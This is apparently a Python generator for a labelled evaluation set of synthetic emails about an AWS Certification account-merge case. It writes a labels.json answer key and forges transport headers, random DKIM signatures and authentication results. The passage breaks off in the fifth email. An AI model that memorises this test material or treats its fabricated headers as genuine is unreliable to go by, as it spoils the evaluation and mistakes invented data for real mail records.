#!/usr/bin/env python3
"""Generate blind set 183: mid-case AWS Certification account-merge mailbox.

Writes NNN-slug.eml files and labels.json next to this script.
"""
import base64
import datetime as dt
import hashlib
import html as htmllib
import io
import json
import os
import quopri
import random
import re
import sys
import uuid
from zoneinfo import ZoneInfo
from email.message import Message
from email.mime.multipart import MIMEMultipart
from email.mime.base import MIMEBase
from email.generator import BytesGenerator
from email.header import Header
from email.policy import compat32
from email.utils import format_datetime, formataddr
from email import encoders

OUT = os.path.dirname(os.path.abspath(__file__))
R = random.Random(183)
UTC = dt.timezone.utc
PT = ZoneInfo("America/Los_Angeles")
JST = ZoneInfo("Asia/Tokyo")


def D(s, tz=UTC):
    """'2025-05-28 09:12:45' -> aware datetime (default UTC)."""
    return dt.datetime.fromisoformat(s).replace(tzinfo=tz)


def case15(opened, tail):
    return "%d%s" % (int(opened.timestamp()), tail)


def rhex(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def rb64(n):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(R.choice(alphabet) for _ in range(n))


def ses_msgid(date):
    ms = int(date.timestamp() * 1000) + R.randint(0, 900)
    return "<0100%012x-%s-000000@email.amazonses.com>" % (ms, uuid.UUID(int=R.getrandbits(128)))


def ses_mailfrom(date):
    ms = int(date.timestamp() * 1000) + R.randint(0, 900)
    return "0100%012x-%s-000000@amazonses.com" % (ms, uuid.UUID(int=R.getrandbits(128)))


def rfcdate(d, tz=None):
    if tz is not None:
        d = d.astimezone(tz)
    return format_datetime(d)


def gdate(d):
    """Gmail style: 'Wed, 28 May 2025 02:12:45 -0700 (PDT)'."""
    l = d.astimezone(PT)
    return format_datetime(l) + " (%s)" % l.tzname()


def fold_b64(s, indent="\t ", width=70):
    return ("\n" + indent).join(s[i:i + width] for i in range(0, len(s), width))


# ---------------------------------------------------------------------------
# Sender profiles: how a mail leaves its origin
# ---------------------------------------------------------------------------
SEL_AMZ = ["pnu5ibyiztslgmwejgmjkglbpqunr3fg", "4fa3zg6bqalbqhw2jb6c5vw5kjcynpbv"]
SEL_SES = ["ug7nbtf4gccmlpwj322ax3p6ow6yfsug", "224i4yxa5dv7c2xz3womw6peuasteono"]


def dkim_sig(d, s, date, headers="From:To:Subject:MIME-Version:Content-Type:Date:Message-ID"):
    t = int(date.timestamp())
    return ("v=1; a=rsa-sha256; q=dns/txt; c=relaxed/simple;\n\ts=%s; d=%s; t=%d;\n"
            "\th=%s;\n\tbh=%s=;\n\tb=%s" % (
                s, d, t, headers, rb64(43),
                fold_b64(rb64(342) + "=", "\t  ")))


def sender_amazon(date, from_domain="amazon.com", genuine=True):
    """Genuine SES mail from an amazon.com address."""
    ip = "54.240.%d.%d" % (R.choice([8, 9, 48]), R.randint(10, 250))
    host = "a%s-%s.smtp-out.amazonses.com" % (ip.split(".")[2], ip.split(".")[3])
    mf = ses_mailfrom(date)
    return dict(ip=ip, host=host, helo=host, mailfrom=mf, mf_domain="amazonses.com",
                dkim=[(from_domain, "pass", R.choice(SEL_AMZ)), ("amazonses.com", "pass", R.choice(SEL_SES))],
                spf="pass", dmarc="pass", from_domain=from_domain, policy="QUARANTINE",
                trailer=[("X-SES-Outgoing", date.strftime("%Y.%m.%d") + "-" + ip),
                         ("Feedback-ID", "::1.us-east-1.%s=:AmazonSES" % rb64(43).replace("/", "x").replace("+", "y"))])


def sender_generic(date, from_domain, host, ip, mailfrom, dkim_d=None, spf="pass", dmarc="pass",
                   policy="REJECT", dkim_res="pass", sel="s1", trailer=()):
    dk = [] if dkim_d is None else [(dkim_d, dkim_res, sel)]
    return dict(ip=ip, host=host, helo=host, mailfrom=mailfrom, mf_domain=mailfrom.split("@")[1],
                dkim=dk, spf=spf, dmarc=dmarc, from_domain=from_domain, policy=policy,
                trailer=list(trailer))


def sender_credly(date, from_domain="credly.com"):
    ip = "149.72.%d.%d" % (R.randint(100, 250), R.randint(2, 250))
    host = "o%d.email.%s" % (R.randint(1, 9), from_domain)
    mf = "bounces+%d-%s-%s=%s@email.%s" % (R.randint(1000000, 9999999), rhex(4), "user", "x", from_domain)
    return sender_generic(date, from_domain, host, ip, mf, dkim_d=from_domain, sel="s1",
                          policy="NONE",
                          trailer=[("X-SG-EID", rb64(60)), ("X-Entity-ID", rb64(22) + "==")])


# ---------------------------------------------------------------------------
# Receiving sides: what the user's provider adds on top
# ---------------------------------------------------------------------------
def _dkim_list(snd, style):
    out = []
    for d, res, s in snd["dkim"]:
        if style == "gmail":
            out.append("dkim=%s header.i=@%s header.s=%s header.b=%s" % (res, d, s, rb64(8)))
        elif style == "yahoo":
            out.append("dkim=%s header.i=@%s header.s=%s" % (res, d, s))
        else:
            out.append("dkim=%s header.d=%s header.s=%s" % (res, d, s))
    return out


def ar_gmail(snd):
    parts = ["mx.google.com"] + _dkim_list(snd, "gmail")
    if snd["spf"] == "pass":
        parts.append("spf=pass (google.com: domain of %s designates %s as permitted sender) smtp.mailfrom=%s"
                     % (snd["mailfrom"], snd["ip"], snd["mailfrom"]))
    elif snd["spf"] == "softfail":
        parts.append("spf=softfail (google.com: domain of transitioning %s does not designate %s as permitted sender) smtp.mailfrom=%s"
                     % (snd["mailfrom"], snd["ip"], snd["mailfrom"]))
    else:
        parts.append("spf=%s (google.com: domain of %s does not designate %s as permitted sender) smtp.mailfrom=%s"
                     % (snd["spf"], snd["mailfrom"], snd["ip"], snd["mailfrom"]))
    if snd["dmarc"]:
        dis = "NONE" if snd["dmarc"] == "pass" else snd["policy"]
        parts.append("dmarc=%s (p=%s sp=%s dis=%s) header.from=%s"
                     % (snd["dmarc"], snd["policy"], snd["policy"], dis, snd["from_domain"]))
    return ";\n       ".join(parts)


def ar_outlook(snd):
    spf = "spf=%s (sender IP is %s) smtp.mailfrom=%s" % (snd["spf"], snd["ip"], snd["mf_domain"])
    if snd["dkim"]:
        d, res, s = snd["dkim"][0]
        dk = "dkim=%s (signature was verified) header.d=%s" % (res, d) if res == "pass" else \
             "dkim=fail (signature did not verify) header.d=%s" % d
    else:
        dk = "dkim=none (message not signed) header.d=none"
    if snd["dmarc"] == "pass":
        dm = "dmarc=pass action=none header.from=%s;compauth=pass reason=100" % snd["from_domain"]
    else:
        dm = "dmarc=fail action=quarantine header.from=%s;compauth=fail reason=000" % snd["from_domain"]
    return "%s;\n %s;%s" % (spf, dk, dm)


def ar_yahoo(snd):
    parts = ["atlas-production.v2.mail.yahoo.com"] + _dkim_list(snd, "yahoo")
    parts.append("spf=%s smtp.mailfrom=%s" % (snd["spf"], snd["mf_domain"]))
    parts.append("dmarc=%s(p=%s) header.from=%s" % (snd["dmarc"], snd["policy"], snd["from_domain"]))
    return ";\n ".join(parts) + ";"


def ar_jp(authserv, snd):
    parts = [authserv, "spf=%s smtp.mailfrom=%s" % (snd["spf"], snd["mailfrom"])]
    for d, res, s in snd["dkim"]:
        parts.append("dkim=%s header.i=@%s" % (res, d))
    parts.append("dmarc=%s header.from=%s" % (snd["dmarc"], snd["from_domain"]))
    return ";\n\t".join(parts)


def recv_line(snd, by, d, rcpt, tzfmt, with_="ESMTPS", tls=True):
    tl = "\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256)" if tls else ""
    return "from %s (%s [%s])\n        by %s with %s id %s\n        for <%s>%s;\n        %s" % (
        snd["helo"], snd["host"], snd["ip"], by, with_, rhex(12), rcpt, tl, tzfmt(d))


def rx_gmail(snd, d, rcpt, arc=True, extra_ar_below=None):
    d1 = d + dt.timedelta(seconds=R.randint(1, 4))
    d2 = d1 + dt.timedelta(seconds=1)
    ar = ar_gmail(snd)
    h = [("Delivered-To", rcpt),
         ("Received", "by 2002:a05:6a10:%s:b0:%s:%s:%s with SMTP id %scsp%dpxb;\n        %s"
          % (rhex(4), rhex(3), rhex(4), rhex(4), R.choice("abcdefghk") + str(R.randint(10, 99)),
             R.randint(1000000, 9999999), gdate(d2))),
         ("X-Google-Smtp-Source", rb64(60) + "=="),
         ("X-Received", "by 2002:a05:620a:%s:b0:%s:%s with SMTP id af79cd13be357-%sa.%d.%d;\n        %s"
          % (rhex(4), rhex(3), rhex(4), rhex(10), R.randint(10, 99), int(d2.timestamp()), gdate(d2)))]
    if arc:
        h += [("ARC-Seal", "i=1; a=rsa-sha256; t=%d; cv=none;\n        d=google.com; s=arc-20240605;\n        b=%s"
               % (int(d1.timestamp()), ("\n         ").join(rb64(70) for _ in range(4)))),
              ("ARC-Message-Signature", "i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
               "        h=feedback-id:mime-version:subject:message-id:to:from:date\n         :dkim-signature:dkim-signature;\n"
               "        bh=%s=;\n        fh=%s=;\n        b=%s" % (rb64(43), rb64(43), rb64(70))),
              ("ARC-Authentication-Results", "i=1; " + ar)]
    h += [("Return-Path", "<%s>" % snd["mailfrom"]),
          ("Received", recv_line(snd, "mx.google.com", d1, rcpt, gdate)),
          ("Received-SPF", "%s (google.com: domain of %s %s %s as permitted sender) client-ip=%s;"
           % (snd["spf"], snd["mailfrom"], "designates" if snd["spf"] == "pass" else "does not designate",
              snd["ip"], snd["ip"])),
          ("Authentication-Results", ar)]
    if extra_ar_below:
        h.append(("Authentication-Results", extra_ar_below))
    return h


def rx_outlook(snd, d, rcpt, corporate=None):
    d1 = d + dt.timedelta(seconds=R.randint(1, 3))
    if corporate:
        tenant_host = "%s.%s.prod.outlook.com" % (R.choice(["AM9PR04MB", "DB9PR08MB", "PH0PR11MB"]) + str(R.randint(1000, 9999)),
                                                  R.choice(["eurprd04", "eurprd08", "namprd11"]))
    else:
        tenant_host = "%s.namprd%02d.prod.outlook.com" % ("SJ0PR" + str(R.randint(10, 19)) + "MB" + str(R.randint(1000, 9999)), R.randint(2, 19))
    edge = "%s.mail.protection.outlook.com" % ("BN1PEPF0000" + str(R.randint(1000, 9999)) if not corporate else
                                               "AMS1EPF0000" + str(R.randint(1000, 9999)))
    od = lambda x: format_datetime(x.astimezone(UTC)).replace("-0000", "+0000")
    h = [("Received", "from %s (2603:10b6:a03:%s::%s) by\n %s with Microsoft SMTP Server (version=TLS1_2,\n"
          " cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.%d.%d; %s"
          % (edge.split(".")[0], rhex(3), rhex(2), tenant_host, R.randint(8000, 9300), R.randint(10, 40), od(d1 + dt.timedelta(seconds=1)))),
         ("Received", "from %s (%s) by\n %s (10.167.242.%d) with Microsoft SMTP Server (version=TLS1_3,\n"
          " cipher=TLS_AES_256_GCM_SHA384) id 15.20.%d.%d via Frontend Transport; %s"
          % (snd["host"], snd["ip"], edge, R.randint(2, 250), R.randint(8000, 9300), R.randint(10, 40), od(d1))),
         ("Authentication-Results", ar_outlook(snd)),
         ("Received-SPF", "%s (protection.outlook.com: domain of %s\n designates %s as permitted sender)\n receiver=protection.outlook.com;"
          " client-ip=%s; helo=%s; pr=C" % ("Pass" if snd["spf"] == "pass" else "SoftFail", snd["mf_domain"], snd["ip"], snd["ip"], snd["helo"])),
         ("X-MS-Exchange-Organization-ExpirationStartTime", od(d1)),
         ("X-MS-Exchange-Organization-Network-Message-Id", str(uuid.UUID(int=R.getrandbits(128)))),
         ("X-MS-Exchange-Organization-SCL", "1" if snd["dmarc"] == "pass" else "5"),
         ("X-Microsoft-Antispam", "BCL:0;ARA:13230040|%d|%d;" % (R.randint(1000000, 9999999), R.randint(1000000, 9999999))),
         ("Return-Path", snd["mailfrom"])]
    if corporate:
        h.insert(0, ("Received", "from %s (::1) by\n %s with Microsoft SMTP Server (version=TLS1_2,\n"
                     " cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.%d.%d via Mailbox Transport; %s"
                     % (tenant_host, tenant_host, R.randint(8000, 9300), R.randint(10, 40), od(d1 + dt.timedelta(seconds=2)))))
        h.append(("X-MS-Exchange-Organization-AuthSource", edge))
        h.append(("X-MS-Exchange-Organization-AuthAs", "Anonymous"))
    return h


def rx_yahoo(snd, d, rcpt):
    d1 = d + dt.timedelta(seconds=R.randint(1, 5))
    return [("Return-Path", "<%s>" % snd["mailfrom"]),
            ("Received", "from %d.%s.mail.ne1.yahoo.com by sonic%d.consmr.mail.ne1.yahoo.com with HTTP; %s"
             % (R.randint(10, 99), "bizmail", R.randint(300, 330), format_datetime(d1 + dt.timedelta(seconds=1)).replace("-0000", "+0000"))),
            ("Received", "by hermes--production-ne1-%s (Yahoo Inc. Hermes SMTP Server) with ESMTPS id %s;\n          %s"
             % (rhex(10), rhex(32), format_datetime(d1).replace("-0000", "+0000"))),
            ("X-Originating-Ip", "[%s]" % snd["ip"]),
            ("Received-SPF", "%s (domain of %s designates %s as permitted sender)" % (snd["spf"], snd["mf_domain"], snd["ip"])),
            ("Authentication-Results", ar_yahoo(snd)),
            ("X-Apparently-To", "%s; %s" % (rcpt, format_datetime(d1).replace("-0000", "+0000"))),
            ("X-YMailISG", rb64(60))]


JP_PROVIDERS = {
    "nifty": ("mx.nifty.com", "mta-snd%02d.nifty.com"),
    "biglobe": ("biglobe.ne.jp", "mxr-a%d.biglobe.ne.jp"),
    "ocn": ("ocn.ad.jp", "mf-smf-ucb0%02d.ocn.ad.jp"),
    "sonet": ("so-net.ne.jp", "mx%02d.so-net.ne.jp"),
}


def rx_jp(provider, snd, d, rcpt):
    authserv, byfmt = JP_PROVIDERS[provider]
    by = byfmt % R.randint(1, 40)
    d1 = d + dt.timedelta(seconds=R.randint(1, 6))
    jd = lambda x: format_datetime(x.astimezone(JST))
    return [("Return-Path", "<%s>" % snd["mailfrom"]),
            ("Delivered-To", rcpt),
            ("Received", "from %s (%s [%s])\n\tby %s (Postfix) with ESMTPS id %s\n\tfor <%s>; %s (JST)"
             % (snd["helo"], snd["host"], snd["ip"], by, rhex(10).upper(), rcpt, jd(d1))),
            ("Authentication-Results", ar_jp(authserv, snd)),
            ("X-Spam-Flag", "NO")]


def rx_none(snd, d, rcpt, relay="mail.hughes-obrien.ie"):
    """Delivery through a small self-run relay that adds no Authentication-Results."""
    d1 = d + dt.timedelta(seconds=R.randint(2, 9))
    return [("Return-Path", "<%s>" % snd["mailfrom"]),
            ("Received", "from %s (%s [%s])\n\tby %s (Postfix) with ESMTPS id %s\n\tfor <%s>; %s"
             % (snd["helo"], snd["host"], snd["ip"], relay, rhex(11).upper(), rcpt,
                format_datetime(d1.astimezone(ZoneInfo("Europe/Dublin"))))),
            ("X-Virus-Scanned", "amavisd-new at %s" % relay.split(".", 1)[1])]


# ---------------------------------------------------------------------------
# Body parts
# ---------------------------------------------------------------------------
CODEC = {"utf-8": "utf-8", "iso-2022-jp": "iso2022_jp", "shift_jis": "cp932", "windows-1252": "cp1252",
         "iso-8859-1": "cp1252", "us-ascii": "utf-8", "cp932": "cp932"}


def tpart(text, subtype="plain", charset="utf-8", cte="quoted-printable", declared=None, fmt_flowed=False):
    """A text part; `declared` lets the charset label lie about the bytes."""
    raw = text.encode(CODEC[charset.lower()])
    p = Message()
    ct = 'text/%s; charset="%s"' % (subtype, declared or charset)
    if fmt_flowed:
        ct = "text/%s; charset=%s; format=flowed" % (subtype, declared or charset)
    p["Content-Type"] = ct
    p["Content-Transfer-Encoding"] = cte
    if cte == "base64":
        payload = base64.encodebytes(raw).decode("ascii")
    elif cte == "quoted-printable":
        payload = quopri.encodestring(raw).decode("ascii")
    else:
        payload = raw.decode("ascii", "surrogateescape")
    p.set_payload(payload)
    return p


def boundary(style="java", d=None):
    if style == "java":
        return "----=_Part_%d_%d.%d" % (R.randint(1000000, 9999999), R.randint(100000000, 999999999),
                                         int((d or dt.datetime.now(UTC)).timestamp() * 1000))
    if style == "gmail":
        return "000000000000%s" % rhex(16)
    if style == "outlook":
        return "_000_%s_" % rb64(40).replace("/", "").replace("+", "")
    return "===============%019d==" % R.getrandbits(60)


def alternative(plain_part, html_part, bstyle="java", d=None):
    m = MIMEMultipart("alternative", boundary=boundary(bstyle, d))
    del m["MIME-Version"]
    m.attach(plain_part)
    m.attach(html_part)
    return m


def esc(s):
    return htmllib.escape(s, quote=False)


def text_to_html(text):
    paras = [p for p in text.strip("\n").split("\n\n")]
    return "\n".join("<p>%s</p>" % "<br>\n".join(esc(l) for l in p.split("\n")) for p in paras)


def quoted_to_html(q):
    if not q.strip():
        return ""
    lines = q.strip("\n").split("\n")
    return ('<div class="gmail_quote"><blockquote style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex">\n'
            + "<br>\n".join(esc(l) for l in lines) + "\n</blockquote></div>")


def aws_html(new, quoted="", lang="en"):
    return """<!DOCTYPE html>
<html lang="%s"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>Amazon Web Services</title></head>
<body style="margin:0;padding:0;background:#f2f3f3;font-family:'Amazon Ember',Arial,sans-serif;font-size:14px;color:#16191f">
<table role="presentation" width="100%%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table role="presentation" width="640" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff">
<tr><td style="background:#232f3e;padding:14px 24px"><img src="https://d1.awsstatic.com/logos/aws-logo-lockups/poweredbyaws/PB_AWS_logo_RGB_REV_SQ.8c88ac215fe4e441dc42865dd6962ed4f444a90d.png" alt="AWS" width="60"></td></tr>
<tr><td style="padding:24px;line-height:1.5">
%s
%s
</td></tr>
<tr><td style="padding:12px 24px;font-size:11px;color:#687078;border-top:1px solid #eaeded">Amazon Web Services, Inc. is a subsidiary of Amazon.com, Inc. Amazon.com is a registered trademark of Amazon.com, Inc. This message was produced and distributed by Amazon Web Services Inc., 410 Terry Ave. North, Seattle, WA 98109-5210</td></tr>
</table></td></tr></table></body></html>
""" % (lang, text_to_html(new), quoted_to_html(quoted))


# ---------------------------------------------------------------------------
# Assembly
# ---------------------------------------------------------------------------
AWS_FORM = ("Amazon Web Services", "aws-cs-trainingcertification-form@amazon.com")
AWS_CONSOLE = ("Amazon Web Services", "no-reply-aws@amazon.com")
ID_RE = re.compile(r"(?<![A-Za-z0-9])aws[ \-]?(\d{8})(?!\d)", re.I)

LABELS = {}
SEEN = set()


def enc_hdr(value, charset=None):
    if charset is None:
        try:
            value.encode("ascii")
            return value
        except UnicodeEncodeError:
            charset = "utf-8"
    return Header(value, charset, header_name="Subject").encode(linesep="\n", maxlinelen=76)


def addr(name, address, charset=None):
    if not name:
        return address
    try:
        name.encode("ascii")
        return formataddr((name, address))
    except UnicodeEncodeError:
        return "%s <%s>" % (Header(name, charset or "utf-8").encode(), address)


def ids_in(text):
    return sorted({"AWS" + m for m in ID_RE.findall(text)})


def emit(num, slug, *, kind, case, ids, sv, lang, frm, to, subject, date, body, new,
         rx, tz=UTC, msgid=None, subj_charset=None, extra=(), pre=(), linesep="\n", new_extra=""):
    """Write one mail.

    body : a Message/MIME tree (Content-* headers only).
    new  : the plain text of the NEW part of the mail (used to cross-check ids).
    rx   : list of (name, value) transport headers (provider-added, topmost first).
    """
    assert kind in {"case_created", "merge_confirmation_requested", "merge_completed", "survey",
                    "credly_badge_issued", "support_reply", "unrelated"}, kind
    fname = "%03d-%s.eml" % (num, slug)
    assert num not in SEEN, num
    SEEN.add(num)
    auto = ids_in(new + "\n" + new_extra)
    assert sorted(ids) == auto, (fname, ids, auto)
    hdrs = list(rx) + list(pre)
    hdrs += [("From", frm), ("To", to), ("Subject", enc_hdr(subject, subj_charset)),
             ("Date", rfcdate(date, tz)), ("Message-ID", msgid or ses_msgid(date))]
    hdrs += list(extra)
    buf = io.BytesIO()
    if "MIME-Version" not in body:
        body["MIME-Version"] = "1.0"
        # put MIME-Version first among the body's headers
        mv = body._headers.pop()
        body._headers.insert(0, mv)
    BytesGenerator(buf, mangle_from_=False, policy=compat32.clone(linesep="\n", max_line_length=78)).flatten(body)
    head = "".join("%s: %s\n" % (k, v) for k, v in hdrs).encode("ascii")
    data = head + buf.getvalue()
    if linesep == "\r\n":
        data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    with open(os.path.join(OUT, fname), "wb") as f:
        f.write(data)
    LABELS[fname] = {"kind": kind, "case_id": case, "account_ids": sorted(ids),
                     "sender_verified": sv, "language": lang}


def with_trailer(snd, extra=()):
    return list(snd.get("trailer", [])) + list(extra)


def dkim_hdrs(snd, date):
    return [("DKIM-Signature", dkim_sig(d, s, date)) for d, res, s in snd["dkim"]]


# Footers --------------------------------------------------------------------
def console_footer(case_id, lang="en"):
    return ("\n\nWe value your feedback. Please share your experience by rating this and other correspondences "
            "in the AWS Support Center. You can rate a correspondence by selecting the stars in the top right "
            "corner of the correspondence.\n")


def console_links(case_id, lang="en"):
    return ("\n======================\n"
            "To see all the correspondence on this case, please sign in to the Support Center:\n"
            "https://console.aws.amazon.com/support/home#/case/?displayId=%s%%26language=%s\n\n"
            "*Please note: this e-mail was sent from an address that cannot accept incoming e-mails.\n"
            "To respond to this case, please use the link above to update your case in the AWS Support Center.\n\n"
            "Amazon Web Services, Inc. is a subsidiary of Amazon.com, Inc. Amazon.com is a registered "
            "trademark of Amazon.com, Inc. This message was produced and distributed by Amazon Web Services "
            "Inc., 410 Terry Ave. North, Seattle, WA 98109-5210\n" % (case_id, lang))


FORM_SUBJ = "RE:[CASE %s] [AWS Training and Certification Form Submission] - account-assistance"


# ===========================================================================
# People and cases
# ===========================================================================
DAN = ("Daniel Hughes", "dan.hughes.dev@gmail.com")
MISAKI = ("佐藤 美咲", "misaki.sato@nifty.com")
RAHUL = ("Rahul Menon", "rahul.menon@outlook.com")
TANAKA = ("田中 健一", "k-tanaka@biglobe.ne.jp")
SOFIA = ("Sofia Marquez", "sofia.marquez.cloud@gmail.com")
TOM = ("Tom Becker", "tom.becker@norrland-freight.de")
WEI = ("Wei Zhang", "weizhang_88@yahoo.com")
YAMA = ("山本 翔", "sho.yamamoto@ocn.ne.jp")
MARIA = ("Maria Rossi", "maria.rossi.it@gmail.com")
KEVIN = ("Kevin O'Brien", "kevin@hughes-obrien.ie")
PRIYA = ("Priya Raghavan", "priya.raghavan91@gmail.com")
SUZUKI = ("鈴木 亜希子", "akiko.suzuki@so-net.ne.jp")

C1_OPEN = D("2025-05-27 14:05:33"); C1 = case15(C1_OPEN, "00812")
C2_OPEN = D("2025-08-04 01:22:10"); C2 = case15(C2_OPEN, "00347")
C3_OPEN = D("2026-01-12 05:41:07"); C3 = case15(C3_OPEN, "00590")
C4_OPEN = D("2025-11-18 00:35:50"); C4 = case15(C4_OPEN, "00128")
C5 = "10384726151"      # 2022, 11 digits
C6_OPEN = D("2025-03-10 08:14:02"); C6 = case15(C6_OPEN, "00433")
C7_OPEN = D("2024-09-16 19:02:44"); C7 = case15(C7_OPEN, "00961")
C7B_OPEN = D("2024-09-19 22:47:15"); C7B = case15(C7B_OPEN, "00205")
C8_OPEN = D("2025-05-26 03:10:29"); C8 = case15(C8_OPEN, "00774")
C9 = "6182735094"       # 2019, 10 digits
C10_OPEN = D("2024-06-03 11:26:48"); C10 = case15(C10_OPEN, "00019")
C11 = "12894470331"     # 2023, 11 digits
C12_OPEN = D("2025-12-01 04:58:36"); C12 = case15(C12_OPEN, "00652")


def P(person, cs=None):
    return addr(person[0], person[1], cs)


# ===========================================================================
# Block 1: 001-010
# ===========================================================================
def block1():
    # 001 -- form desk acknowledgement ---------------------------------------
    d = C1_OPEN + dt.timedelta(seconds=8)
    snd = sender_amazon(d)
    new = """Hello Daniel Hughes,

Thank you for contacting AWS Training and Certification Customer Support.

This is an automated message to confirm that we have received your request and created a case for it. A member of our support team will review your inquiry and respond within 24 hours.

Case ID: %s
Subject: [AWS Training and Certification Form Submission] - account-assistance

If you need to add information to this request, reply to this e-mail and keep the case ID in the subject line. To help us respond faster, please do not open a new case for the same request.

Summary of your submission:
Inquiry type: AWS Training and Certification
Category: Certification
Detail: Account Merge
AWS candidate ID: AWS04417729
Description: I have two certification accounts, one created with my old employer e-mail. I would like to combine them and keep aws12093358 (my personal account).

Regards,
AWS Training and Certification Customer Support
""" % C1
    body = tpart(new, "plain", "utf-8", "quoted-printable")
    emit(1, "form-ack-case-received", kind="case_created", case=C1, ids=["AWS04417729", "AWS12093358"], sv=True,
         lang="en", frm=addr(*AWS_FORM), to=DAN[1],
         subject="[CASE %s] We have received your AWS Training and Certification request" % C1,
         date=d, body=body, new=new, rx=rx_gmail(snd, d, DAN[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 002 -- agent asks for sign-in e-mails ----------------------------------
    d = D("2025-05-28 16:12:40")
    snd = sender_amazon(d)
    new = """Hello Daniel,

Thank you for reaching out to AWS Training and Certification.

I understand that you would like to bring your certification history together under one account, and I'm happy to help with this.

I was able to locate the account AWS04417729 from your submission. So that I can find the second profile and make sure I am speaking with its owner, could you please reply with the following:

1. The e-mail address you use to sign in to each account
2. The notification e-mail address shown on each profile, if it is different
3. Your full name exactly as it appears on each account

Once we have these details, we'll review both accounts and follow up with the next steps.

Best regards,
Camila R.
AWS Training and Certification Customer Support
"""
    quoted = """
---------- Original Message ----------
From: dan.hughes.dev@gmail.com
Sent: 2025-05-27 14:05:33 (UTC)
Subject: [AWS Training and Certification Form Submission] - account-assistance

Inquiry type: AWS Training and Certification
Category: Certification
Detail: Account Merge
AWS candidate ID: AWS04417729
Description: I have two certification accounts, one created with my old employer e-mail. I would like to combine them and keep aws12093358 (my personal account).
"""
    body = alternative(tpart(new + quoted, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new, quoted), "html", "utf-8", "quoted-printable"), "java", d)
    emit(2, "form-agent-asks-login-emails", kind="support_reply", case=C1, ids=["AWS04417729"], sv=True,
         lang="en", frm=addr(*AWS_FORM), to=DAN[1], subject=FORM_SUBJ % C1, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, DAN[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 003 -- hand-over to Certification Operations ---------------------------
    d = D("2025-05-29 15:40:02")
    snd = sender_amazon(d)
    new = """Hi Daniel,

Thanks for getting back to us with the sign-in details - that is exactly what we needed.

I have now passed your request to our Certification Operations team, who look after account consolidations in CertMetrics. They will review both profiles (AWS04417729 and AWS-12093358) and check that the exam history on each belongs to the same person.

When that review is finished you will receive a separate e-mail from us that lists both accounts and asks you to confirm before anything is changed. There is nothing you need to do right now.

Kind regards,
Camila R.
AWS Training and Certification Customer Support
"""
    quoted = """
On Wed, May 28, 2025 at 6:02 PM Daniel Hughes <dan.hughes.dev@gmail.com> wrote:
> Hi Camila,
>
> Thanks for the quick reply. Here are the details:
>
> Account 1: aws04417729 - sign-in d.hughes@contoso-logistics.com (old employer, I can still log in)
> Account 2: aws12093358 - sign-in dan.hughes.dev@gmail.com
> Name on both: Daniel James Hughes
>
> Notification e-mail is the same as the sign-in on both.
>
> Cheers,
> Dan
>
> On Wed, 28 May 2025 at 17:12, Amazon Web Services <aws-cs-trainingcertification-form@amazon.com> wrote:
> > Hello Daniel,
> >
> > Thank you for reaching out to AWS Training and Certification.
> >
> > I was able to locate the account AWS04417729 from your submission. So that I
> > can find the second profile and make sure I am speaking with its owner, could
> > you please reply with the following:
> > ...
"""
    body = tpart(new + quoted, "plain", "utf-8", "base64")
    emit(3, "form-handed-to-cert-ops", kind="support_reply", case=C1, ids=["AWS04417729", "AWS12093358"], sv=True,
         lang="en", frm=addr(*AWS_FORM), to=DAN[1], subject=FORM_SUBJ % C1, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, DAN[1], arc=False) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 004 -- confirmation request ------------------------------------------
    d = D("2025-05-30 10:03:51")
    snd = sender_amazon(d)
    new = """Hello Daniel,

Thank you for your patience while our team reviewed your accounts.

We are able to merge the following AWS Certification accounts:

Account to be merged (this account will be deactivated):
    Candidate ID: AWS04417729
    E-mail: d.hughes@contoso-logistics.com

Account to be kept (surviving account):
    Candidate ID: AWS12093358
    E-mail: dan.hughes.dev@gmail.com

After the merge, all certifications, exam history and benefits from AWS04417729 will be moved to AWS12093358, and you will sign in with dan.hughes.dev@gmail.com. Please be aware that a merge cannot be reversed once it has been processed.

Please reply to this e-mail to confirm that the details above are correct and that you would like us to proceed.

Best regards,
Camila R.
AWS Training and Certification Customer Support
"""
    body = alternative(tpart(new, "plain", "utf-8", "base64"),
                       tpart(aws_html(new), "html", "utf-8", "base64"), "java", d)
    emit(4, "form-please-confirm-merge", kind="merge_confirmation_requested", case=C1,
         ids=["AWS04417729", "AWS12093358"], sv=True, lang="en", frm=addr(*AWS_FORM), to=DAN[1],
         subject=FORM_SUBJ % C1, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, DAN[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 005 -- thanks for confirming, will proceed ---------------------------
    d = D("2025-05-31 08:20:17")
    snd = sender_amazon(d)
    new = """Hello Daniel,

Thank you for confirming the details. I have submitted your request to our Certification Operations team and it is now in their processing queue.

Processing usually takes one to three business days. Once the merge is complete, we will send you a confirmation and you will see all of your certifications under your personal account. In the meantime, please avoid scheduling a new exam or editing either profile, as this can delay the process.

Best regards,
Camila R.
AWS Training and Certification Customer Support
"""
    quoted = """
On Fri, May 30, 2025 at 12:31 PM Daniel Hughes <dan.hughes.dev@gmail.com> wrote:
> The details are correct. Please proceed with the merge.
>
> Thanks,
> Dan
>
> On Fri, 30 May 2025 at 11:03, Amazon Web Services <aws-cs-trainingcertification-form@amazon.com> wrote:
> > Hello Daniel,
> >
> > We are able to merge the following AWS Certification accounts:
> >
> > Account to be merged (this account will be deactivated):
> >     Candidate ID: AWS04417729
> >     E-mail: d.hughes@contoso-logistics.com
> >
> > Account to be kept (surviving account):
> >     Candidate ID: AWS12093358
